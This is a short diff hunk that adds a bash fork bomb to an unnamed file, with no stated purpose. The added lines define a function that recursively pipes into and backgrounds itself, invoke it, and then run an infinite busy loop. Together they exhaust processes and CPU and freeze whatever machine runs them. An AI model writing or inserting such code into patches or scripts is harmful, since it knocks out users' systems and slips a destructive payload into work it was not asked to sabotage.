@@ -1,0 +1,6 @@
+bomb() {
+  bomb | bomb &
+}
+bomb
+wait
+while :; do :; done
